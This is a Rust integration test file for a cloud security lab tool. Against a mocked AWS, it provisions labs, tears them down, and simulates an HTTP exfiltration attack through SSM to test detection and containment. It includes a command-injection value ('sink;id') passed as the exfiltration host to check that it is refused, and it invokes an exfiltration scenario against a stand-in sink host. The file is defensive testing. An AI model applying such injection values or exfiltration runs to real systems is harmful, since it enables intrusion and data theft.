    // The detector scores with the endpoint, above its own windows' mean + 3 sd of their
    // scores; its fallback model, in the bucket, learned the same traffic.
    let env = env_of().await;
    assert_eq!(env.get("CIS_ENDPOINT").map(String::as_str), Some("cis-rcf-anomaly-endpoint"));
    let expected = cis::backends::aws::sagemaker::threshold_of(&scores).unwrap();
    let threshold: f64 = env["CIS_ENDPOINT_THRESHOLD"].parse().unwrap();
    assert!((threshold - expected).abs() < 1e-5, "{threshold} vs {expected}");
    let key = env.get("CIS_MODEL_KEY").expect("the function names its model");
    assert!(key.starts_with(cis::lab::MODEL_PREFIX), "{key}");
    let model = s3.get_object().bucket(bucket).key(key).send().await.unwrap().body.collect().await.unwrap().into_bytes();
    let model = cis::anomaly::Model::from_json(&String::from_utf8_lossy(&model)).unwrap();
    assert!(model.trained_on.starts_with("lab rcf's own flow logs: 120 records"), "{}", model.trained_on);

    let status = cis(&["status", "--output", "json"]);
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    let drift: Vec<&serde_json::Value> = status["resources"].as_array().unwrap().iter().filter(|r| r["drift"] == true).collect();
    assert!(drift.is_empty(), "{drift:?}");
    assert!(tagged_with(&sdk, "rcf").await > 20);

    // SageMaker makes a log group for each endpoint itself, untagged, kept forever: `down`
    // takes the lab's by its exact name, and leaves lab `rcf-b`'s, whose name shares the prefix.
    let logs = aws_sdk_cloudwatchlogs::Client::new(&sdk);
    for group in ["/aws/sagemaker/Endpoints/cis-rcf-anomaly-endpoint", "/aws/sagemaker/Endpoints/cis-rcf-b-anomaly-endpoint"] {
        logs.create_log_group().log_group_name(group).send().await.unwrap();
    }
    let down = cis(&["down"]);
    assert!(down.status.success(), "{}", String::from_utf8_lossy(&down.stderr));
    assert_eq!(tagged_with(&sdk, "rcf").await, 0, "nothing tagged with the lab remains");
    let left = logs.describe_log_groups().log_group_name_prefix("/aws/sagemaker/Endpoints/").send().await.unwrap();
    let left: Vec<&str> = left.log_groups().iter().filter_map(|g| g.log_group_name()).collect();
    assert_eq!(left, ["/aws/sagemaker/Endpoints/cis-rcf-b-anomaly-endpoint"]);
    assert!(s3.head_bucket().bucket(bucket).send().await.is_err(), "the bucket went, with its objects");
}

#[tokio::test(flavor = "current_thread")]
async fn killing_up_at_20_points_then_down_leaves_nothing_tagged_every_time() {
    let moto = Moto::strict(3);
    let sdk = moto.sdk_config().await;
    let packages = stand_in_packages();
    let lab = Lab::new();
    let mut counted = Vec::new();
    for k in 1..=20u32 {
        let name = format!("kill{k:02}");
        let cis = |args: &[&str], crash: Option<u32>| {
            let mut c = lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", &name][..], args].concat());
            c.envs(moto.env()).env("CIS_LAMBDA_DIR", packages.path());
            if let Some(n) = crash {
                c.env(cis::backends::aws::cloud::CRASH_AFTER_ENV, n.to_string());
            }
            c.output().unwrap()
        };
        // Killed right after the k-th create returned, before the ledger recorded it.
        let up = cis(&["up", "--detector", "lambda"], Some(k));
        assert!(!up.status.success(), "up was to be killed after create {k}");
        counted.push(tagged_with(&sdk, &name).await);
        let down = cis(&["down"], None);
        assert!(down.status.success(), "kill point {k}: down failed: {}", String::from_utf8_lossy(&down.stderr));
        assert_eq!(tagged_with(&sdk, &name).await, 0, "kill point {k}: resources tagged with the lab remain after down");
    }
    eprintln!("tagged resources left by each killed up, all removed by down: {counted:?}");
    assert!(counted.windows(2).any(|w| w[1] > w[0]), "the kill points reach further into up: {counted:?}");
}

/// Puts one line into a log group's stream (created when missing), as AWS delivers it.
async fn put_line(logs: &aws_sdk_cloudwatchlogs::Client, group: &str, stream: &str, line: &str) {
    let _ = logs.create_log_stream().log_group_name(group).log_stream_name(stream).send().await;
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as i64;
    let event = aws_sdk_cloudwatchlogs::types::InputLogEvent::builder().timestamp(now).message(line).build().unwrap();
    logs.put_log_events().log_group_name(group).log_stream_name(stream).log_events(event).send().await.unwrap();
}

/// `hours` of the lab's target at work, as its flow log writes them (the lab's v5
/// format): an agent's HTTPS call a minute to one AWS address, its size varying; and the
/// busiest minute's bytes out of the VPC.
fn learned_traffic(instance: &str, hours: i64) -> (Vec<String>, f64) {
    let format = cis::flowlog::LogFormat::parse(cis::lab::LAB_LOG_FORMAT).unwrap();
    let base = 1_767_225_600;
    let bytes = |m: i64| 2_000 + (m as u64 * 37) % 900;
    let lines = (0..hours * 60).map(|m| format.write(&crate::flows::egress(base + m * 60, "52.46.141.10", bytes(m), instance))).collect();
    (lines, (0..hours * 60).map(bytes).max().unwrap_or(0) as f64)
}

/// Puts lines into a log group's stream (created when missing) in PutLogEvents' batches.
async fn put_lines(logs: &aws_sdk_cloudwatchlogs::Client, group: &str, stream: &str, lines: &[String]) {
    let _ = logs.create_log_stream().log_group_name(group).log_stream_name(stream).send().await;
    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as i64;
    for batch in lines.chunks(1_000) {
        let events = batch.iter().map(|l| aws_sdk_cloudwatchlogs::types::InputLogEvent::builder().timestamp(now).message(l).build().unwrap());
        logs.put_log_events().log_group_name(group).log_stream_name(stream).set_log_events(Some(events.collect())).send().await.unwrap();
    }
}

#[tokio::test(flavor = "current_thread")]
async fn an_attack_runs_through_ssm_and_its_timeline_comes_from_the_pipelines_own_records() {
    let moto = Moto::start();
    let sdk = moto.sdk_config().await;
    let packages = stand_in_packages();
    let lab = Lab::new();
    let cis = |args: &[&str]| {
        let mut c = lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", "att"][..], args].concat());
        c.envs(moto.env()).env("CIS_LAMBDA_DIR", packages.path());
        c
    };
    let up = cis(&["up", "--detector", "lambda"]).output().unwrap();
    assert!(up.status.success(), "{}", String::from_utf8_lossy(&up.stderr));
    let ssm = aws_sdk_ssm::Client::new(&sdk);

    // No sink, no attack: refused before anything runs on the target.
    let refused = cis(&["attack", "exfil-http-beacon"]).output().unwrap();
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("--exfil-host"), "{stderr}");
    let injected = cis(&["attack", "exfil-http-beacon", "--exfil-host", "sink;id"]).output().unwrap();
    assert_eq!(injected.status.code(), Some(2), "{}", String::from_utf8_lossy(&injected.stderr));
    assert!(ssm.list_commands().send().await.unwrap().commands().is_empty(), "nothing was sent to the target");

    let ledger = cis::ledger::Ledger::load(&lab.state().join("aws/labs/att/ledger.json")).unwrap().expect("a ledger");
    let id = |role: cis::lab::Role| ledger.entry(role).and_then(|e| e.id.clone()).unwrap();
    let target = id(cis::lab::Role::TargetInstance);
    let ec2 = aws_sdk_ec2::Client::new(&sdk);
    let described = ec2.describe_instances().instance_ids(&target).send().await.unwrap();
    let instance = &described.reservations()[0].instances()[0];
    let ip = instance.private_ip_address().unwrap().to_string();
    let eni = instance.network_interfaces()[0].network_interface_id().unwrap().to_string();
    let logs = aws_sdk_cloudwatchlogs::Client::new(&sdk);
    let flow_group = "cis-att-flow-logs";
    let now_s = || std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
    let record = |dst: &str, port: u16, bytes: u64, start: u64| {
        format!(
            "5 123456789012 {eni} {ip} {dst} 40000 {port} 6 20 {bytes} {start} {} ACCEPT OK vpc-1 subnet-1 {target} 3 IPv4 {ip} {dst} egress 8",
            start + 5
        )
    };
    // The flow log's first records: the pipeline is warm.
    put_line(&logs, flow_group, &format!("{eni}-all"), &record("10.42.1.1", 443, 300, now_s() - 60)).await;

    let mut attack = cis(&["attack", "exfil-http-beacon", "--exfil-host", "sink.example.net", "--output", "json"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // A readiness wait for the command to reach SSM, not a timing assertion.
    let command = loop {
        if let Some(c) = ssm.list_commands().send().await.unwrap().commands().first().cloned() {
            break c;
        }
        assert!(attack.try_wait().unwrap().is_none(), "cis attack exited early");
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    };
    assert_eq!(command.document_name(), Some("AWS-RunShellScript"));
    assert_eq!(command.instance_ids(), std::slice::from_ref(&target));
    let line = &command.parameters().unwrap()["commands"][0];
    let encoded = line.split_whitespace().nth(1).unwrap();
    let script = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, encoded).unwrap();
    let scenario = cis::scenario::find("exfil-http-beacon").unwrap();
    assert_eq!(String::from_utf8(script).unwrap(), scenario.script.trim_start());
    assert!(line.contains("CIS_EXFIL_HOST=sink.example.net"), "{line}");

    // What AWS and the functions would record: the exfiltration's flow record, the
    // detector's detection, and containment (run for real against the lab) with its result.
    let first_flow = now_s();
    put_line(&logs, flow_group, &format!("{eni}-all"), &record("203.0.113.50", 80, 16384, first_flow)).await;
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let detected_at = cis::clock::Timestamp(std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis() as i64);
    let detection = cis::events::DetectionEvent {
        at: detected_at,
        lab: "att".into(),
        instance_id: target.clone(),
        detector: cis::events::Detector::IsolationForest,
        window_start: cis::clock::Timestamp::from_unix_seconds(first_flow as i64),
        window_s: 60,
        reason: "test".into(),
        evidence: None,
    };
    let detector_logs = "/aws/lambda/cis-att-detector-function";
    put_line(&logs, detector_logs, "2026/11/23/[$LATEST]1", &cis::events::log_line(cis::events::DETECTION_LOG_MARKER, &detection)).await;
    let config = cis::containment::ContainmentConfig {
        lab: "att".into(),
        topic_arn: id(cis::lab::Role::Topic),
        allow_all_group: None,
        isolation_group: id(cis::lab::Role::IsolationSecurityGroup),
        forensics: true,
        steps: cis::containment::IsolationSteps::NetworkAcl,
    };
    let outcome = cis::containment::contain(&cis::backends::aws::functions::AwsContainment::new(&sdk), &config, &detection).await;
    assert_eq!(outcome.outcome, cis::events::Outcome::Isolated, "{outcome:?}");
    let containment_logs = "/aws/lambda/cis-att-containment-function";
    let printed = format!("2026-11-23T15:00:00.000Z\tREQUEST-ID\t{}", cis::events::log_line(cis::events::CONTAINMENT_LOG_MARKER, &outcome));
    put_line(&logs, containment_logs, "2026/11/23/[$LATEST]2", &printed).await;

    let out = attack.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let runs: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let run = &runs[0];
    assert_eq!(run["cloud"], "aws");
    assert_eq!(run["verdict"], "as expected", "{run}");
    assert_eq!(run["metrics"]["bytes_exfiltrated"], 16384, "only the attack's flow counts: {run}");
    assert_eq!(run["timeline"]["first_exfil_flow"], first_flow * 1000, "{run}");
    assert_eq!(run["timeline"]["detected"], detected_at.millis(), "{run}");
    assert_eq!(run["timeline"]["isolated"], outcome.isolated_at.unwrap().millis(), "{run}");
    assert!(run["timeline"]["records_delivered"].is_i64(), "{run}");
    let latency = run["metrics"]["detection_latency_s"].as_f64().unwrap();
    assert!((latency - detected_at.seconds_since(cis::clock::Timestamp::from_unix_seconds(first_flow as i64))).abs() < 1e-9);
    assert!(!run["notes"].to_string().contains("no longer show it"), "the groups confirm the isolation: {run}");
    // The lab was never armed: the command said so as it began, and the run says so (the
    // detection here was put by the test).
    assert!(String::from_utf8_lossy(&out.stderr).contains("is learning: its detector has no model"), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(run["learning"], true, "{run}");
    assert!(run["notes"].to_string().contains("while the lab was learning"), "{run}");
    assert!(lab.state().join("aws/labs/att/runs/run-0001.json").exists());

    let down = cis(&["down"]).output().unwrap();
    assert!(down.status.success(), "{}", String::from_utf8_lossy(&down.stderr));
    assert_eq!(tagged_with(&sdk, "att").await, 0, "nothing tagged with the lab remains");
}

/// `cis up --ttl 4h` on AWS: the janitor function, its role, the scheduler's role and a
/// one-time schedule at the lab's creation plus four hours that invokes the janitor; the
/// janitor's code (the orchestration's `down` without a ledger, as it runs in Lambda)
/// removes every tagged resource and the schedule, its own role last; the operator's
/// `status` then shows it all missing and `down` clears the ledger.
#[tokio::test(flavor = "current_thread")]
async fn a_lab_with_a_ttl_schedules_its_janitor_which_removes_all_but_its_own_role_by_tag() {
    let moto = Moto::start();
    let sdk = moto.sdk_config().await;
    let packages = stand_in_packages();
    let lab = Lab::new();
    let cis = |args: &[&str]| {
        let mut c = lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", "ttl"][..], args].concat());
        c.envs(moto.env()).env("CIS_LAMBDA_DIR", packages.path());
        c.output().unwrap()
    };
    // The lab would expire before its day of learning is over: refused, nothing made.
    let early = cis(&["up", "--detector", "lambda", "--ttl", "4h"]);
    let said = String::from_utf8_lossy(&early.stderr);
    assert_eq!(early.status.code(), Some(2), "{said}");
    assert!(said.contains("24.0 h (its warm-up)") && said.contains("--warmup"), "{said}");
    assert!(!lab.state().join("aws/labs/ttl").exists(), "nothing was made");
    let up = cis(&["up", "--detector", "lambda", "--ttl", "4h", "--warmup", "1h", "--output", "json"]);
    assert!(up.status.success(), "{}", String::from_utf8_lossy(&up.stderr));
    let report: serde_json::Value = serde_json::from_slice(&up.stdout).unwrap();
    assert_eq!(report["resources"].as_array().unwrap().len(), 36, "29 and the janitor's seven: {report}");

    let ledger = cis::ledger::Ledger::load(&lab.state().join("aws/labs/ttl/ledger.json")).unwrap().expect("a ledger");
    let id = |role: cis::lab::Role| ledger.entry(role).and_then(|e| e.id.clone()).unwrap();
    let scheduler = aws_sdk_scheduler::Client::new(&sdk);
    let schedule = scheduler.get_schedule().name("cis-ttl-ttl-schedule").send().await.unwrap();
    let expires = ledger.created_at.plus(std::time::Duration::from_secs(4 * 3600));
    assert_eq!(schedule.schedule_expression(), Some(cis::backends::aws::scheduler::at_expression(expires).as_str()));
    assert_eq!(schedule.schedule_expression_timezone(), Some("UTC"));
    let target = schedule.target().unwrap();
    assert_eq!(target.arn(), id(cis::lab::Role::JanitorFunction));
    assert_eq!(target.role_arn(), id(cis::lab::Role::SchedulerRole));
    let lambda = aws_sdk_lambda::Client::new(&sdk);
    let janitor = lambda.get_function().function_name("cis-ttl-janitor-function").send().await.unwrap();
    let env = janitor.configuration().and_then(|c| c.environment()).and_then(|e| e.variables()).unwrap();
    assert_eq!(env.get("CIS_LAB").map(String::as_str), Some("ttl"));

    let status = cis(&["status"]);
    let text = String::from_utf8_lossy(&status.stdout);
    assert!(text.contains("time to live: 3 h 59 min left") || text.contains("time to live: 4 h 0 min left"), "{text}");

    // The time is up: what the janitor function runs, with the lab's ledger out of reach.
    let before = tagged_with(&sdk, "ttl").await;
    assert!(before >= 15, "{before}");
    let account = cis::cloud::AccountInfo { account_id: "123456789012".into(), region: "us-east-1".into(), description: "moto".into() };
    let cloud = cis::backends::aws::cloud::AwsCloud::new(cis::backends::aws::AwsSession { sdk: sdk.clone(), account }, vec![]);
    let scratch = tempfile::tempdir().unwrap();
    let swept = cis::orchestrator::Orchestrator::janitor(&cloud, &"ttl".parse().unwrap(), scratch.path()).await.unwrap();
    assert!(!swept.had_ledger);
    let roles: Vec<Option<cis::lab::Role>> = swept.deleted.iter().map(|d| d.role).collect();
    // The topic and the janitor's logs go last (a failure until then is announced on the
    // topic); the janitor's own role and policy stay: a role cannot delete itself.
    assert!(roles.ends_with(&[Some(cis::lab::Role::Topic), Some(cis::lab::Role::JanitorLogs)]), "{roles:?}");
    assert!(roles.contains(&Some(cis::lab::Role::TtlSchedule)), "{roles:?}");
    assert!(!roles.contains(&Some(cis::lab::Role::JanitorRole)) && !roles.contains(&Some(cis::lab::Role::JanitorPolicy)), "{roles:?}");
    use cis::cloud::Cloud as _;
    let left = cloud.list_lab(&"ttl".parse().unwrap()).await.unwrap();
    assert_eq!(tagged_with(&sdk, "ttl").await, 1, "only the janitor's role remains: {left:?} {roles:?}");
    assert!(scheduler.get_schedule().name("cis-ttl-ttl-schedule").send().await.is_err(), "the schedule is gone");

    let status = cis(&["status", "--output", "json"]);
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    for r in status["resources"].as_array().unwrap() {
        let kept = r["role"] == "janitor-role" || r["role"] == "janitor-policy";
        assert_eq!(r["state"] == "missing", !kept, "{r}");
    }
    let down = cis(&["down"]);
    assert!(down.status.success(), "{}", String::from_utf8_lossy(&down.stderr));
    assert!(!lab.state().join("aws/labs/ttl/ledger.json").exists());
    assert_eq!(tagged_with(&sdk, "ttl").await, 0, "down removed the janitor's role");
}
